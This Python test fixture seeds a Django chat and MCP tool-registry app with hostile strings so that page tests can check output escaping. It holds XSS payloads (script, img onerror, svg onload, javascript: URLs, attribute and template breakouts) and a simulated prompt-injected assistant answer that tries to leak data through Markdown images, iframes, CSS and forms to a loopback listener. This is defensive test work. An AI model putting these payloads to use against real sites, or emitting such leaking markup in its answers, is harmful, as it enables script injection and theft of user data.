"""Hostile strings in every field a user, a model or a tool server controls, for page tests.

One definition serves both the server-side checks (``tests/security/test_browser_injection.py``, in
the test database) and the real-browser test (``tests/e2e/test_hostile_pages.py``, which runs
:func:`create` inside the netops child's ``manage.py shell``). Every payload, if it ever ran, sets
``window.__pwned``; the Markdown image and raw ``<img>`` point at ``leak_url``, a listener the
browser test runs on another loopback port: a request reaching it is an exfiltration.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=1">'
SVG = '"><svg onload="window.__pwned=1">'
QUOTE_BREAK = "'+(window.__pwned=1)+'"
JS_URL = "javascript:window.__pwned=1"
TEMPLATE = "{{ request.user }}{% csrf_token %}"
# Attribute breakouts for unquoted and single-quoted attributes, and an htmx attribute.
ATTRIBUTE = "x onmouseover=window.__pwned=1 hx-on:click=window.__pwned=1 '"

# Everything at once, for the fields that are long enough (each payload also stands alone below).
ALL = f"{QUOTE_BREAK} {SVG} {IMG} {SCRIPT} {JS_URL} {ATTRIBUTE} {TEMPLATE}"
PAYLOADS = (SCRIPT, IMG, SVG, QUOTE_BREAK, JS_URL, ATTRIBUTE)


def markdown_answer(leak_url: str) -> str:
    """An assistant answer a prompt-injected model might write: every Markdown and HTML trick."""
    return (
        f"Here is the status {SCRIPT} and {IMG} and {SVG}.\n\n"
        f"![status graph]({leak_url}/leak.png?d=secret-from-markdown)\n\n"
        f'<img src="{leak_url}/raw.png?d=secret-from-html">\n\n'
        f"[click for details]({JS_URL}) and [the docs](https://example.invalid/docs)\n\n"
        f"[![nested]({leak_url}/nested.png?d=secret)]({leak_url}/)\n\n"
        f"| col {QUOTE_BREAK} | b |\n|:--|--:|\n| {IMG} | {JS_URL} |\n\n"
        f"```html\n{SCRIPT}\n```\n\n"
        f"<iframe src='{leak_url}/frame'></iframe><style>body{{background:url({leak_url}/css.png)}}</style>\n"
        f"<link rel=stylesheet href='{leak_url}/x.css'><form action='{leak_url}/f'><button>go</button></form>"
    )


@dataclass(frozen=True)
class Created:
    """Primary keys of what :func:`create` made, for the tests to visit."""

    conversation_id: str
    change_ids: list[int]
    server_ids: list[str]
    key_prefixes: list[str]

    def as_dict(self) -> dict[str, Any]:
        return {
            "conversation_id": self.conversation_id,
            "change_ids": self.change_ids,
            "server_ids": self.server_ids,
            "key_prefixes": self.key_prefixes,
        }


def _tools() -> list[dict[str, Any]]:
    return [
        {
            "name": f"tool_{index}",
            "description": f"{payload}\n{ALL}",
            "input_schema": {
                "type": "object",
                "title": payload,
                "properties": {payload[:40]: {"type": "string", "description": payload, "default": JS_URL}},
            },
            "annotations": {"title": payload, "readOnlyHint": index % 2 == 0, "destructiveHint": index == 1},
        }
        for index, payload in enumerate(PAYLOADS)
    ]


def _plan(leak_url: str) -> dict[str, Any]:
    changes = [{"field": payload[:60], "before": payload, "after": [ALL, JS_URL]} for payload in PAYLOADS]
    return {
        "version": 1,
        "tool": SVG,
        "summary": ALL,
        "operations": [
            {
                "action": "update",
                "endpoint": SVG,
                "display": ALL,
                "data": {"description": ALL},
                "id": 7,
                "last_updated": "2026-01-01T00:00:00Z",
                "ref": None,
                "lookup": {},
                "before": {"description": QUOTE_BREAK},
                "changes": changes,
            },
            {
                "action": "create",
                "endpoint": "dcim/devices",
                "display": f"![leak]({leak_url}/diff.png?d=secret) {IMG}",
                "data": {"name": IMG},
                "id": None,
                "last_updated": None,
                "ref": QUOTE_BREAK,
                "lookup": {},
                "before": None,
                "changes": [{"field": "name", "before": None, "after": IMG}],
            },
        ],
    }


def create(*, username: str, leak_url: str) -> Created:
    """Fill every user-controllable field with hostile strings; the user owns the conversation and keys.

    Rows are written directly (as a compromised model, tool server or API client would leave them),
    not through the services, which may refuse some of them.
    """
    from django.contrib.auth.models import User
    from django.utils import timezone

    from chat.models import Conversation, Message, ToolCall
    from netboxrw.models import ChangeEvent, ChangeRequest
    from registry.keys import api_key_create
    from registry.models import LLMModel, MCPServer
    from registry.tool_sync import server_tools_sync

    user = User.objects.get(username=username)
    requester, _ = User.objects.get_or_create(username=f"req{QUOTE_BREAK}"[:150])

    LLMModel.objects.create(
        name=f"model {SVG}"[:100],
        description=ALL,
        provider="openai_compatible",
        endpoint="http://127.0.0.1:9/v1",
        model=QUOTE_BREAK,
    )
    servers = [
        MCPServer.objects.create(
            name=f"srv{index} {payload}"[:100],
            description=f"{payload} {ALL}",
            protocol="http",
            url=JS_URL if index == 0 else f"http://127.0.0.1:9/{payload}",
            status="unhealthy" if index % 2 else "healthy",
            last_result="unhealthy" if index % 2 else "healthy",
            last_checked_at=timezone.now(),
            last_error=f"{payload} {ALL}",
            enabled=True,
        )
        for index, payload in enumerate(PAYLOADS)
    ]
    for server in servers:
        server_tools_sync(server=server, tools=_tools())  # first discovery: every tool accepted
        server.tools_refreshed_at = timezone.now()
        server.save(update_fields=["tools_refreshed_at"])
    # A later check found every tool of the first server changed: held, with a hostile diff to show.
    changed = [{**tool, "description": f"{SCRIPT} changed {tool['description']}"} for tool in _tools()]
    server_tools_sync(server=servers[0], tools=changed)

    conversation = Conversation.objects.create(user=user, title=ALL[:200])
    Message.objects.create(
        conversation=conversation, role="user", content=f"{ALL}\n{markdown_answer(leak_url)}"
    )
    answer = Message.objects.create(
        conversation=conversation,
        role="assistant",
        content=markdown_answer(leak_url),
        model_name=f"m {SVG}"[:100],
        error=ALL,
        status="complete",
        finished=timezone.now(),
        citations=[
            {"number": 1, "tool": SVG, "source": IMG, "arguments": {QUOTE_BREAK: ALL}},
            {"number": 2, "tool": JS_URL, "source": SCRIPT, "arguments": {"x": JS_URL}},
        ],
    )
    for number, payload in enumerate(PAYLOADS, start=1):
        ToolCall.objects.create(
            message=answer,
            call_id=f"call_{number}",
            number=number,
            name=payload[:100],
            source=payload[:100],
            arguments={payload: ALL, "nested": [JS_URL, {"k": SCRIPT}]},
            content=[
                {"type": "text", "text": f"{payload}\n{ALL}\n{markdown_answer(leak_url)}"},
                {"type": "image", "data": "AAAA", "mimeType": "image/png"},
            ],
            is_error=number % 2 == 0,
            duration_ms=12.5,
        )
    for index, payload in enumerate(PAYLOADS[:3]):  # another conversation per payload, for the list
        Conversation.objects.create(user=user, title=f"{index} {payload}")

    changes = []
    for state in ("pending", "failed", "applied"):
        change = ChangeRequest.objects.create(
            tool=SVG,
            arguments={QUOTE_BREAK: ALL, "name": IMG},
            plan=_plan(leak_url),
            summary=ALL[:500],
            object_types=[SVG, IMG, JS_URL],
            state=state,
            requested_by=requester,
            requested_via=f"api_key:{QUOTE_BREAK}"[:32],
            error=ALL if state == "failed" else "",
            result={"written": [ALL], "note": SCRIPT} if state != "pending" else None,
            review_comment=ALL,
        )
        ChangeEvent.objects.create(
            change_request=change, from_state="", to_state="pending", actor_label=QUOTE_BREAK, comment=ALL
        )
        changes.append(change.pk)

    prefixes = [
        api_key_create(owner=user, name=name, level="read_only")[0].prefix
        for name in (QUOTE_BREAK, SVG[:50], IMG[:50], JS_URL, ATTRIBUTE[:50])
    ]
    return Created(
        conversation_id=str(conversation.pk),
        change_ids=changes,
        server_ids=[str(s.pk) for s in servers],
        key_prefixes=prefixes,
    )
